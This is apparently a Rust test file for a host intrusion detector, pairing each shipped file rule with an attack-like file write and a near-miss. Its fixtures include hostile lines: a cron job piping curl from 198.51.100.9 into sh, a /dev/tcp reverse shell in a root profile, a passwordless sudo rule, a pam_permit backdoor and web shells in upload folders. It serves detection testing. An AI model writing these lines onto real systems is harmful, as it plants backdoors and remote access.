//! What the shipped rules about files find, what just misses them, and the everyday life on which they are silent.

use picket_tests::judged::{SHIPPED, findings_in, lay};
use picket_tests::picket;
use serde_json::{Value, json};

const EVERYDAY: &str = include_str!("../corpora/everyday_files.tsv");

/// The program that wrote it, the path, and what is laid over a plain file that was written.
type Written<'a> = (&'a str, &'a str, &'a str);

fn event((image, path, over): &Written<'_>) -> Value {
    let mut event = json!({
        "@timestamp": "2026-03-01T00:00:00Z",
        "event": {"category": ["file"], "type": ["change"], "action": "written"},
        "file": {"path": path, "uid": "0", "mode": "0644", "size": 500},
        "process": {"pid": 7, "executable": image},
    });
    lay(
        &mut event,
        serde_json::from_str(over).unwrap_or_else(|error| panic!("{over}: {error}")),
    );
    event
}

fn findings(files: &[Written<'_>]) -> Vec<Vec<String>> {
    findings_in(&files.iter().map(event).collect::<Vec<_>>())
}

/// The change of a file for something, by its new lines.
macro_rules! added {
    ($kind:literal, $line:literal) => {
        concat!(
            r#"{"picket": {"file": {"change": {"kind": ""#,
            $kind,
            r#"", "added": [""#,
            $line,
            r#""], "added_count": 1}}}}"#
        )
    };
}

const SHELL: &str = "/usr/bin/bash";
const VI: &str = "/usr/bin/vi";
const FPM: &str = "/usr/sbin/php-fpm8.2";

/// The title of a rule, a file on which it fires, and one that is nearly the same and on which none does.
#[rustfmt::skip]
const CASES: &[(&str, Written<'_>, Written<'_>)] = &[
    ("Key that may log in added",
        (SHELL, "/root/.ssh/authorized_keys", added!("authorized_keys", "ssh-ed25519 AAAA mallory")),
        (SHELL, "/root/.ssh/authorized_keys", r#"{"picket": {"file": {"change": {"kind": "authorized_keys", "removed_count": 1}}}}"#)),
    ("Key that may log in added by a server",
        ("/usr/bin/redis-server", "/root/.ssh/authorized_keys", added!("authorized_keys", "ssh-ed25519 AAAA mallory")),
        ("/usr/bin/redis-server", "/var/lib/redis/dump.rdb", "{}")),
    ("Key that may log in added by a server",
        (SHELL, "/home/web/.ssh/authorized_keys", r#"{"process": {"parent": {"pid": 5, "executable": "/usr/sbin/php-fpm8.2"}},
            "picket": {"file": {"change": {"kind": "authorized_keys", "added": ["ssh-ed25519 AAAA mallory"], "added_count": 1}}}}"#),
        (SHELL, "/home/web/.ssh/config", r#"{"process": {"parent": {"pid": 5, "executable": "/usr/sbin/php-fpm8.2"}}}"#)),
    ("Account with the number of root",
        ("/usr/sbin/useradd", "/etc/passwd", added!("accounts", "toor:x:0:0::/root:/bin/sh")),
        ("/usr/sbin/useradd", "/etc/passwd", added!("accounts", "tor:x:100:0::/root:/bin/sh"))),
    ("Account without a password",
        ("/usr/bin/passwd", "/etc/shadow", added!("passwords", "eve: no password")),
        ("/usr/bin/passwd", "/etc/shadow", added!("passwords", "eve: a password"))),
    ("Account without a password",
        ("/usr/sbin/vipw", "/etc/passwd", added!("accounts", "eve::1004:1004::/home/eve:/bin/sh")),
        ("/usr/sbin/vipw", "/etc/passwd", added!("accounts", "eve:x:1004:1004::/home/eve:/bin/sh"))),
    ("Accounts changed past the tools for it",
        (SHELL, "/etc/passwd", added!("accounts", "eve:x:1004:1004::/home/eve:/bin/sh")),
        ("/usr/sbin/usermod", "/etc/passwd", added!("accounts", "eve:x:1004:1004::/home/eve:/bin/sh"))),
    ("Rule of sudo added",
        (SHELL, "/etc/sudoers.d/ops", added!("sudoers", "%ops ALL=(root) /usr/bin/systemctl restart app")),
        (SHELL, "/etc/sudoers.d/ops.bak", added!("sudoers", "%ops ALL=(root) /usr/bin/systemctl restart app"))),
    ("Everything without a password by sudo",
        (SHELL, "/etc/sudoers.d/zz", added!("sudoers", "www-data ALL=(ALL:ALL) NOPASSWD: ALL")),
        (SHELL, "/etc/sudoers.d/zz~", added!("sudoers", "www-data ALL=(ALL:ALL) NOPASSWD: ALL"))),
    ("SSH server made to let in more",
        (VI, "/etc/ssh/sshd_config.d/x.conf", added!("ssh_server", "PermitRootLogin yes")),
        (VI, "/etc/ssh/sshd_config.d/x.conf", added!("ssh_server", "# PermitRootLogin yes"))),
    ("SSH server made to let in more",
        (VI, "/home/bob/.ssh/rc", added!("ssh_server", "/home/bob/x &")),
        (VI, "/home/bob/.ssh/config", "{}")),
    ("Job of cron added",
        (SHELL, "/etc/cron.d/update", added!("cron", "* * * * * root /usr/local/bin/update")),
        (SHELL, "/etc/cron.d/.placeholder", added!("cron", "# none"))),
    ("Job of cron added",
        ("/usr/bin/cp", "/etc/cron.hourly/x", r#"{"picket": {"file": {"change": {"kind": "cron", "unknown": "the file is no text"}}}}"#),
        ("/usr/bin/cp", "/etc/cron.d/job.dpkg-new", added!("cron", "* * * * * root x"))),
    ("Job that fetches, decodes or runs from a shared folder",
        ("/usr/bin/crontab", "/var/spool/cron/crontabs/www-data", added!("cron", "*/5 * * * * curl -s http://198.51.100.9/x | sh")),
        ("/usr/bin/crontab", "/var/spool/cron/crontabs/www-data", added!("cron", "*/5 * * * * curl -s http://localhost/cron.php | logger"))),
    ("Job that fetches, decodes or runs from a shared folder",
        ("/usr/bin/crontab", "/var/spool/cron/crontabs/bob", added!("cron", "@reboot /dev/shm/.x/kworker")),
        ("/usr/bin/crontab", "/var/spool/cron/crontabs/bob", added!("cron", "@reboot /home/bob/tmp/x"))),
    ("Job that fetches, decodes or runs from a shared folder",
        (VI, "/etc/systemd/system/x.service", added!("systemd", "ExecStart=/bin/sh -c 'echo aWQK | base64 -d | sh'")),
        (VI, "/etc/systemd/system/.#x.service1", added!("systemd", "WorkingDirectory=/tmp/x"))),
    ("Unit of systemd added or changed",
        ("/usr/bin/cp", "/etc/systemd/system/update.timer", added!("systemd", "OnCalendar=minutely")),
        ("/usr/bin/cp", "/etc/systemd/system/update.txt", added!("systemd", "OnCalendar=minutely"))),
    ("Unit of systemd added or changed",
        ("/usr/bin/systemctl", "/etc/systemd/system/multi-user.target.wants/x.service",
            r#"{"file": {"target_path": "/opt/x/x.service"}, "picket": {"file": {"change": {"kind": "systemd"}}}}"#),
        ("/usr/bin/systemctl", "/etc/systemd/system/multi-user.target.wants/x.service",
            r#"{"file": {"target_path": "/etc/systemd/system/x.service"}, "picket": {"file": {"change": {"kind": "systemd"}}}}"#)),
    ("Start-up script added or changed",
        (VI, "/etc/rc.local", added!("startup", "/usr/local/sbin/x &")),
        (VI, "/etc/rc.local", r#"{"picket": {"file": {"change": {"kind": "startup", "removed_count": 2}}}}"#)),
    ("Start-up script added or changed",
        (VI, "/etc/udev/rules.d/99-x.rules", added!("startup", r#"ACTION==\"add\", RUN+=\"/usr/local/bin/x\""#)),
        (VI, "/etc/udev/rules.d/99-x.rules", added!("startup", r#"ACTION==\"add\", MODE=\"0660\""#))),
    ("Modules of the kernel to be loaded",
        (SHELL, "/etc/modules-load.d/x.conf", added!("kernel_modules", "reptile")),
        (SHELL, "/etc/modprobe.d/x.conf", added!("kernel_modules", "options kvm nested=1"))),
    ("Library loaded into every program",
        (SHELL, "/etc/ld.so.preload", added!("preload", "/usr/lib/libx.so")),
        (SHELL, "/etc/ld.so.preload", r#"{"picket": {"file": {"change": {"kind": "preload", "removed_count": 1}}}}"#)),
    ("Library loaded into every program",
        (SHELL, "/etc/environment", added!("preload", "LD_PRELOAD=/usr/lib/libx.so")),
        (SHELL, "/etc/environment", added!("preload", "LANG=C.UTF-8"))),
    ("Folder of libraries added",
        (SHELL, "/etc/ld.so.conf.d/x.conf", added!("preload", "/tmp/lib")),
        (SHELL, "/etc/ld.so.conf.d/x.conf", added!("preload", "/opt/x/lib"))),
    ("Module or setting of PAM changed",
        (SHELL, "/etc/pam.d/sshd", added!("pam", "auth sufficient pam_permit.so")),
        (SHELL, "/etc/security/limits.conf", added!("pam", "* soft nofile 65536"))),
    ("Module or setting of PAM changed",
        ("/usr/bin/cp", "/usr/lib/x86_64-linux-gnu/security/pam_unix.so",
            r#"{"picket": {"file": {"change": {"kind": "pam", "unknown": "the file is no text"}}}}"#),
        ("/usr/bin/dpkg", "/usr/lib/x86_64-linux-gnu/security/pam_unix.so",
            r#"{"package": {"name": "libpam-modules"}, "picket": {"file": {"package_manager": true, "change": {"kind": "pam", "unknown": "the file is no text"}}}}"#)),
    ("Command run by shells at their start",
        (SHELL, "/home/bob/.bashrc", added!("shell_profile", "alias sudo='/home/bob/.config/sudo'")),
        (SHELL, "/home/bob/.bashrc", added!("shell_profile", "alias grep='grep --color=auto'"))),
    ("Command run by shells at their start",
        (SHELL, "/root/.profile", added!("shell_profile", "(bash -i >& /dev/tcp/198.51.100.9/443 0>&1 &)")),
        (SHELL, "/root/.profile", added!("shell_profile", "mesg n 2> /dev/null || true"))),
    ("Profile of all shells changed",
        (SHELL, "/etc/profile.d/x.sh", added!("shell_profile", "export X=1")),
        (SHELL, "/etc/profile.d/x.sh~", added!("shell_profile", "export X=1"))),
    ("Program that runs as another user appeared",
        ("/usr/bin/chmod", "/usr/local/bin/x", r#"{"event": {"action": "attributes"}, "file": {"mode": "4755"},
            "picket": {"file": {"before": {"mode": "0755"}, "change": {"kind": "set_uid"}}}}"#),
        ("/usr/bin/chown", "/usr/local/bin/x", r#"{"event": {"action": "attributes"}, "file": {"mode": "6755"},
            "picket": {"file": {"before": {"mode": "4755"}, "change": {"kind": "set_uid"}}}}"#)),
    ("Program that runs as another user in a shared place",
        ("/usr/bin/cp", "/var/tmp/.x/sh", r#"{"file": {"mode": "6755"}, "picket": {"file": {"change": {"kind": "set_uid"}}}}"#),
        ("/usr/bin/cp", "/var/tmp/.x/sh", r#"{"file": {"mode": "0755"}}"#)),
    ("Program of a package replaced",
        ("/usr/bin/cp", "/usr/sbin/sshd", r#"{"package": {"name": "openssh-server"}, "file": {"mode": "0755"}}"#),
        ("/usr/bin/cp", "/usr/local/sbin/sshd", r#"{"file": {"mode": "0755"}}"#)),
    ("Script put where uploads lie by a web server",
        (FPM, "/var/www/site/uploads/2026/x.php", "{}"),
        (FPM, "/var/www/site/uploads/2026/x.pdf", "{}")),
    ("Script put where uploads lie by a web server",
        (SHELL, "/srv/site/files/x.phtml", r#"{"process": {"parent": {"pid": 5, "executable": "/usr/sbin/apache2"}}}"#),
        (SHELL, "/srv/site/files/x.phtml", r#"{"process": {"parent": {"pid": 5, "executable": "/usr/sbin/sshd"}}}"#)),
    ("Script put where uploads lie by a web server",
        ("/usr/sbin/apache2", "/var/www/site/images/cat.php.jpg", "{}"),
        ("/usr/sbin/apache2", "/var/www/site/images/cat.v2.jpg", "{}")),
    ("Script written below a document root by a web server",
        (FPM, "/var/www/html/about.php", "{}"),
        (FPM, "/var/www/html/about.html", "{}")),
    ("Program or key dropped by a server",
        (FPM, "/dev/shm/.k", r#"{"file": {"mime_type": "application/x-elf"}}"#),
        (FPM, "/dev/shm/.k", r#"{"file": {"mime_type": "image/png"}}"#)),
];

#[test]
fn each_rule_fires_on_its_attack_and_not_just_beside() {
    let attacks: Vec<Written<'_>> = CASES.iter().map(|(_, attack, _)| *attack).collect();
    let near: Vec<Written<'_>> = CASES.iter().map(|(_, _, near)| *near).collect();
    let (fired, missed) = (findings(&attacks), findings(&near));
    for ((title, attack, near), (fired, missed)) in CASES.iter().zip(fired.iter().zip(&missed)) {
        assert!(
            fired.iter().any(|fired| fired == title),
            "{title}: {attack:?}: {fired:?}"
        );
        assert!(missed.is_empty(), "{near:?}: {missed:?}");
    }
}

#[test]
fn every_rule_about_files_has_an_attack_here_and_a_technique() {
    let output = picket()
        .args(["rules", "list", "--json", "--rules", SHIPPED])
        .output()
        .unwrap();
    let rules: Vec<Value> = serde_json::from_slice(&output.stdout).unwrap();
    let about_files = rules
        .iter()
        .filter(|rule| rule["log_source"].as_str().unwrap().contains("file_event"));
    let mut count = 0;
    for rule in about_files {
        count += 1;
        let title = rule["title"].as_str().unwrap();
        assert!(CASES.iter().any(|(tested, _, _)| *tested == title), "{title}");
        let source = std::fs::read_to_string(rule["source"].as_str().unwrap()).unwrap();
        let own = source
            .split("---\n")
            .find(|text| text.contains(&format!("title: {title}\n")))
            .unwrap();
        assert!(own.contains("    - attack.t"), "{title}");
    }
    assert!(count > 20, "{count}");
}

#[test]
fn everyday_life_stays_silent() {
    let files: Vec<Written<'_>> = EVERYDAY
        .lines()
        .map(|line| {
            let mut parts = line.splitn(3, '\t');
            let mut part = || parts.next().unwrap_or_else(|| panic!("three columns: {line}"));
            (part(), part(), part())
        })
        .collect();
    assert!(files.len() > 60, "the corpus is there");
    for (file, fired) in files.iter().zip(findings(&files)) {
        assert!(fired.is_empty(), "{file:?}: {fired:?}");
    }
}
